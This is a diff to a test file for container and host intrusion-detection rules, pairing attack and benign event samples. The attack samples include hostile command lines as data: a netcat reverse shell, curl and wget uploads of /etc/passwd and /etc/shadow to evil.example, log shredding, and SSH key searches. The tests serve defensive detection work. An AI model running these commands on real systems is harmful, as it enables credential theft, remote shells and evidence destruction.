@@ -14,8 +14,10 @@ import { repoRoot } from '../helpers.js';
 
 const web = { id: 'cd7a6582a036', full_id: 'cd7a6582a036'.padEnd(64, '0'), name: 'web', image: 'nginx:1' };
 const host = { id: 'host', full_id: 'host', name: 'host' };
+// A runtime's work in web's cgroup, as container attribution marks it (docs/containers.md).
+const setupOfWeb = { ...host, setup: web };
 const ev = (tracker: string, data: Record<string, unknown>, container: object = web): TrackerEvent => ({ tracker, instance: 1, time: 0, data: { pid: 42, ppid: 1, uid: 0, comm: 'x', container, ...data } });
-const exec = (comm: string, args: string[], extra: Record<string, unknown> = {}, container: object = web): TrackerEvent => ev('process', { type: 'exec', comm, exe: `/bin/${comm}`, args, ...extra }, container);
+const exec = (comm: string, args: string[], extra: Record<string, unknown> = {}, container: object = web): TrackerEvent => ev('process', { type: 'exec', comm, exe: `/bin/${comm}`, args, cmdline: args.join(' '), ...extra }, container);
 // `write` as opensnoop sets it (test/trackers/names checks that against the flag bits).
 const open = (comm: string, path: string, flags: string, container: object = web, fd = 3): TrackerEvent =>
   ev('opensnoop', { comm, path, flags, write: /O_WRONLY|O_RDWR|O_CREAT|O_TRUNC/.test(flags), fd }, container);
@@ -23,6 +25,8 @@ const sec = (comm: string, call: string, fields: Record<string, unknown> = {}, c
 const connect = (daddr: string, dport: number, container: object = web): TrackerEvent => ev('tcpconnect', { comm: 'curl', direction: 'connect', daddr, dport }, container);
 const mount = (comm: string, container: object = web): TrackerEvent => ev('mountsnoop', { comm, call: 'mount', source: 'tmpfs', target: '/mnt', fs_type: 'tmpfs' }, container);
 
+/** web, with host paths mounted as container attribution gives them (not enumerable). */
+const withMounts = (paths: string[]): object => Object.defineProperty({ ...web }, 'host_mounts', { value: paths, enumerable: false });
 const start = (caps: string[], extra: Record<string, unknown> = {}): TrackerEvent => exec('sleep', ['sleep', '1'], { vpid: 1, caps, ...extra });
 const DEFAULT_CAPS = ['CAP_CHOWN', 'CAP_NET_RAW', 'CAP_SETUID'];
 
@@ -36,9 +40,10 @@ const CASES: [string, TrackerEvent, TrackerEvent][] = [
   ['write_below_binary_dir', open('cp', '/usr/bin/ls', 'O_WRONLY|O_TRUNC'), open('apt-get', '/usr/bin/ls', 'O_WRONLY|O_TRUNC')],
   ['release_agent_write', open('sh', '/sys/fs/cgroup/rdma/release_agent', 'O_WRONLY|O_TRUNC'), open('cat', '/sys/fs/cgroup/rdma/notify_on_release', 'O_RDONLY')],
   ['kernel_module_load', sec('insmod', 'finit_module', { fd: 3 }), sec('modinfo', 'memfd_create', { name: 'x' })],
-  ['mount_in_container', mount('mount'), mount('runc:[2:INIT]')],
-  ['namespace_change_in_container', sec('nsenter', 'setns', { nstype: 'CLONE_NEWNET' }), sec('runc:[1:CHILD]', 'setns', { nstype: 'CLONE_NEWNET' })],
-  ['memfd_exec', exec('x', ['x'], { exe: '/memfd:payload (deleted)' }), exec('x', ['x'], { exe: '/usr/bin/x' })],
+  // Attributed by kernel facts, not names: a workload calling itself runc still alerts.
+  ['mount_in_container', mount('runc:[2:INIT]'), mount('runc:[2:INIT]', setupOfWeb)],
+  ['namespace_change_in_container', sec('runc:[1:CHILD]', 'setns', { nstype: 'CLONE_NEWNET' }), sec('runc:[1:CHILD]', 'setns', { nstype: 'CLONE_NEWNET' }, setupOfWeb)],
+  ['memfd_exec', exec('x', ['x'], { exe: '/memfd:payload (deleted)' }), exec('runc', ['runc', 'init'], { exe: '/memfd:runc_cloned:/proc/self/exe' }, setupOfWeb)],
   ['dev_shm_exec', exec('x', ['x'], { exe: '/dev/shm/x' }), exec('x', ['x'], { exe: '/tmp/x' })],
   ['netcat_remote_exec', exec('nc', ['nc', '-e', '/bin/sh', '10.0.0.1', '4444']), exec('nc', ['nc', '-z', '10.0.0.1', '80'])],
   ['package_manager_in_container', exec('apk', ['apk', 'add', 'curl']), exec('apk', ['apk', 'info'])],
@@ -49,24 +54,33 @@ const CASES: [string, TrackerEvent, TrackerEvent][] = [
   ['shell_history_cleared', open('sh', '/root/.bash_history', 'O_WRONLY|O_CREAT|O_TRUNC'), open('sh', '/root/.bash_history', 'O_WRONLY|O_APPEND')],
   ['ssh_key_search', exec('find', ['find', '/', '-name', 'id_rsa']), exec('find', ['find', '/', '-name', '*.log'])],
   ['ld_preload_tamper', open('sh', '/etc/ld.so.preload', 'O_WRONLY|O_CREAT'), open('ld.so', '/etc/ld.so.preload', 'O_RDONLY')],
+  ['ld_preload_env', exec('true', ['true'], { ld_preload: '/tmp/x.so', ld_library_path: '' }, host), exec('ls', ['ls'], { ld_preload: 'libfakeroot-sysv.so', ld_library_path: '/usr/lib/x86_64-linux-gnu/libfakeroot' }, host)],
+  ['sensitive_file_link', sec('ln', 'symlink', { path: '/tmp/s', target: '/etc/shadow' }), sec('ln', 'symlink', { path: '/tmp/h', target: '/etc/hostname' })],
   ['private_key_read', open('cat', '/root/.ssh/id_ed25519', 'O_RDONLY'), open('ssh', '/root/.ssh/id_ed25519', 'O_RDONLY')],
   ['container_drift', exec('x', ['x'], { exe: '/tmp/x', upper_layer: true }), exec('x', ['x'], { exe: '/tmp/x', upper_layer: true }, host)],
   ['packet_socket_in_container', sec('x', 'socket', { family: 'AF_PACKET', type: 'SOCK_RAW' }), sec('ping', 'socket', { family: 'AF_INET', type: 'SOCK_RAW' })],
   ['reverse_shell', exec('sh', ['sh', '-i'], { stdin: 'inet', stdout: 'inet' }), exec('sh', ['sh', '-i'], { stdin: 'unix', stdout: 'unix' })],
-  ['stdio_socket_redirect', sec('x', 'dup2', { family: 'AF_INET6', type: 'SOCK_STREAM', oldfd: 3, newfd: 0 }), sec('ping', 'dup2', { family: 'AF_INET', type: 'SOCK_DGRAM', oldfd: 3, newfd: 0 })],
+  ['reverse_shell_fifo', exec('nc', ['nc', '10.0.0.1', '4444'], { stdin: 'pipe', stdout: 'fifo' }), exec('cat', ['cat'], { stdin: 'fifo', stdout: 'pipe' })],
+  // A connection the process made itself, against one a server accepted (busybox httpd, inetd): the same name on purpose.
+  ['stdio_socket_redirect', sec('httpd', 'dup2', { family: 'AF_INET6', type: 'SOCK_STREAM', oldfd: 3, newfd: 0, accepted: false }), sec('httpd', 'dup2', { family: 'AF_INET6', type: 'SOCK_STREAM', oldfd: 3, newfd: 0, accepted: true })],
   ['privileged_container_started', start(DEFAULT_CAPS, { container: { ...web, privileged: true } }), start(DEFAULT_CAPS)],
+  ['sensitive_host_mount', start(DEFAULT_CAPS, { container: withMounts(['/var/lib/app', '/var/run/docker.sock']) }), start(DEFAULT_CAPS, { container: withMounts(['/var/lib/app', '/srv/data']) })],
   ['excessively_capable_container', start([...DEFAULT_CAPS, 'CAP_SYS_MODULE']), start([...DEFAULT_CAPS, 'CAP_SYS_MODULE'], { vpid: 7 })],
   ['setuid_bit_set', sec('chmod', 'fchmodat', { path: '/tmp/x', mode: '4755' }), sec('dpkg', 'fchmodat', { path: '/usr/bin/sudo', mode: '4755' }, host)],
   ['userfaultfd_in_container', sec('x', 'userfaultfd', { flags: 'O_CLOEXEC' }), sec('x', 'userfaultfd', { flags: 'O_CLOEXEC' }, host)],
   ['kexec_load', sec('kexec', 'kexec_file_load'), sec('kexec', 'memfd_create', { name: 'kernel' })],
   ['user_management_in_container', exec('useradd', ['useradd', 'eve']), exec('useradd', ['useradd', '--help'])],
   ['remote_copy_tool_in_container', exec('curl', ['curl', '-o', '/tmp/x', 'http://x']), exec('curl', ['curl', '--version'])],
+  ['shell_script_from_pipe', exec('sh', ['sh'], { stdin: 'pipe' }), exec('sh', ['sh', '-c', 'cat'], { stdin: 'pipe' })],
   ['cluster_admin_tool_in_container', exec('kubectl', ['kubectl', 'get', 'secrets']), exec('kubectl', ['kubectl', 'get', 'secrets'], {}, host)],
   ['proc_environ_read', open('cat', '/proc/1/environ', 'O_RDONLY'), open('cat', '/proc/self/environ', 'O_RDONLY')],
   ['kernel_hook_write', open('sh', '/proc/sys/kernel/core_pattern', 'O_WRONLY|O_CREAT|O_TRUNC'), open('cat', '/proc/sys/kernel/core_pattern', 'O_RDONLY')],
   ['raw_memory_device_opened', open('dd', '/dev/mem', 'O_RDONLY'), open('dd', '/dev/zero', 'O_RDONLY')],
   ['log_cleared', open('sh', '/var/log/auth.log', 'O_WRONLY|O_CREAT|O_TRUNC'), open('logrotate', '/var/log/auth.log', 'O_WRONLY|O_TRUNC')],
+  ['log_file_deleted', sec('rm', 'unlinkat', { path: '/var/log/auth.log', flags: '0' }, host), sec('rm', 'unlink', { path: '/var/log/auth.log.2.gz' }, host)],
+  ['secure_delete_tool', exec('shred', ['shred', '-u', '/var/log/messages'], {}, host), exec('shred', ['shred', '--help'], {}, host)],
   ['shell_config_modified', open('sh', '/root/.bashrc', 'O_WRONLY|O_APPEND|O_CREAT'), open('bash', '/root/.bashrc', 'O_RDONLY')],
+  ['ssh_authorized_keys_modified', open('sh', '/root/.ssh/authorized_keys', 'O_WRONLY|O_APPEND|O_CREAT'), open('sshd', '/root/.ssh/authorized_keys', 'O_RDONLY')],
   ['cron_modified', open('sh', '/etc/cron.d/job', 'O_WRONLY|O_CREAT|O_TRUNC'), open('cron', '/etc/cron.d/job', 'O_RDONLY')],
   ['path_traversal_read', open('php-fpm', '/var/www/html/../../../etc/passwd', 'O_RDONLY'), open('php-fpm', '/var/www/html/../lib/a.php', 'O_RDONLY')],
   ['credential_search', exec('grep', ['grep', '-ri', 'password', '/etc']), exec('grep', ['grep', '-i', 'error', '/var/log/app.log'])],
@@ -89,6 +103,63 @@ for (const [id, attack, benign] of CASES) {
     assert.deepEqual(set.match(benign).map((m) => m.rule).filter((r) => r === id), []);
   });
 }
+
+test('remote_copy_tool_in_container: a file brought in alerts; health checks and clients reading a page do not', () => {
+  const set = loadRules([]);
+  const fires = (argv: string[]): boolean => set.match(exec(argv[0]!, argv)).some((m) => m.rule === 'remote_copy_tool_in_container');
+  for (const argv of [['wget', 'http://10.0.0.5/x'], ['wget', '-q', '-O', '/tmp/x', 'http://evil.example/x'], ['curl', '-fsSLo', '/tmp/x', 'https://evil.example/x'], ['curl', '-O', 'https://evil.example/x'], ['curl', '--output', '/tmp/x', 'https://evil.example/x'], ['curl', '-s', '-F', 'f=@/etc/passwd', 'https://evil.example/u'], ['curl', '-s', '-T', '/etc/shadow', 'https://evil.example/u'], ['wget', '-qO-', '--post-file=/etc/passwd', 'http://evil.example/u']]) {
+    assert.ok(fires(argv), argv.join(' '));
+  }
+  for (const argv of [['wget', '-q', '-O', '/dev/null', 'http://127.0.0.1:8080/health'], ['wget', '-q', '-O', '-', 'http://web:8080/'], ['wget', '-qO-', 'http://api:3000/status'], ['wget', '--spider', 'http://web/'], ['curl', '-fsS', 'http://localhost:8080/health'], ['curl', '-s', 'http://api:3000/items'], ['wget', '-q', 'http://127.0.0.1:9/x'], ['wget', '-q', '-T', '1', '-O', '-', 'http://10.0.0.5/page']]) {
+    assert.ok(!fires(argv), argv.join(' '));
+  }
+});
+
+test('proc_environ_read: procps listing every process with its environment (ps e, top) is silent', () => {
+  const set = loadRules([]);
+  for (const comm of ['ps', 'top']) {
+    const reads = [1, 7, 300].map((pid) => open(comm, `/proc/${pid}/environ`, 'O_RDONLY'));
+    assert.deepEqual(reads.flatMap((e) => set.match(e).map((m) => m.rule)), [], comm);
+  }
+});
+
+test('miner_pool_port: also a connect that failed before any packet (secsnoop), not a unix connect', () => {
+  const set = loadRules([]);
+  const rules = (e: TrackerEvent): string[] => set.match(e).map((m) => m.rule);
+  assert.deepEqual(rules(sec('xmrig', 'connect', { family: 'AF_INET', daddr: '203.0.113.9', dport: 3333, result: 'ENETUNREACH' })), ['miner_pool_port']);
+  assert.deepEqual(rules(sec('curl', 'connect', { family: 'AF_INET6', daddr: '2001:db8::1', dport: 443, result: 'ENETUNREACH' })), []);
+  assert.deepEqual(rules(sec('x', 'connect', { family: 'AF_UNIX', path: '/tmp/3333' })), []);
+  assert.deepEqual(rules(ev('tcpconnect', { comm: 'x', direction: 'accept', daddr: '10.0.0.1', dport: 3333 })), [], 'an accept is not outbound');
+});
+
+test('log_file_deleted: live logs alert, wherever and however deleted; rotated ones, directories and the log daemons do not', () => {
+  const set = loadRules([]);
+  const fires = (e: TrackerEvent): boolean => set.match(e).some((m) => m.rule === 'log_file_deleted');
+  for (const path of ['/var/log/messages', '/var/log/nginx/access.log', '/var/log/wtmp', '/var/log/journal/x/system.journal']) assert.ok(fires(sec('rm', 'unlink', { path })), path);
+  for (const path of ['/var/log/app.log.1', '/var/log/syslog.12', '/var/log/app.log.2.gz', '/var/log/messages-20240101', '/var/log/x.log.20240101-120000', '/var/log/dpkg.log.old', '/var/log/a.xz']) {
+    assert.ok(!fires(sec('find', 'unlinkat', { path, flags: '0' })), path);
+  }
+  assert.ok(!fires(sec('rm', 'unlinkat', { path: '/var/log/nginx', flags: 'AT_REMOVEDIR' })), 'a directory');
+  for (const comm of ['logrotate', 'systemd-journal', 'kubelet']) assert.ok(!fires(sec(comm, 'unlink', { path: '/var/log/containers/web.log' })), comm);
+  assert.ok(!fires(sec('rm', 'unlink', { path: '/tmp/var/log/x' })), 'not below /var/log');
+});
+
+test('sensitive_file_link: targets as given, absolute or relative; public keys and ordinary files are silent', () => {
+  const set = loadRules([]);
+  const fires = (call: string, target: string): boolean => set.match(sec('ln', call, { path: '/tmp/l', target })).some((m) => m.rule === 'sensitive_file_link');
+  for (const t of ['/etc/shadow', '../../etc/shadow', '/etc/gshadow', '/etc/sudoers', '/etc/sudoers.d/admins', '/root/.ssh/id_rsa', '.ssh/id_ed25519', '/home/u/.ssh/authorized_keys', '/root/.ssh', '/etc/ssh/ssh_host_ed25519_key']) {
+    for (const call of ['symlink', 'symlinkat', 'link', 'linkat']) assert.ok(fires(call, t), `${call} ${t}`);
+  }
+  const silent = ['/etc/hostname', '/root/.ssh/id_rsa.pub', '/root/.ssh/known_hosts', '/etc/ssh/ssh_host_ed25519_key.pub', '/etc/shadow.d/x', '/usr/lib/libssh.so'];
+  // backups hard-link their previous copy (rsync --link-dest, cp -al), not the live file
+  silent.push('daily.0/etc/shadow', '/backup/daily.1/etc/shadow', '/backup/daily.1/home/u/.ssh/id_rsa');
+  for (const t of silent) assert.ok(!fires('link', t), t);
+  // busybox passwd, adduser … keep the old file as a hard link named with a trailing "-"
+  const backup = (comm: string, path: string): string[] => set.match(sec(comm, 'link', { path, target: '/etc/shadow' })).map((m) => m.rule);
+  assert.deepEqual(backup('passwd', '/etc/shadow-'), []);
+  assert.deepEqual(backup('passwd', '/tmp/shadow-'), ['sensitive_file_link']);
+  assert.deepEqual(backup('ln', '/etc/shadow-'), ['sensitive_file_link']);
+});
 
 test('eunomia rules list and check', () => {
   const bin = join(repoRoot, 'bin/eunomia.js');
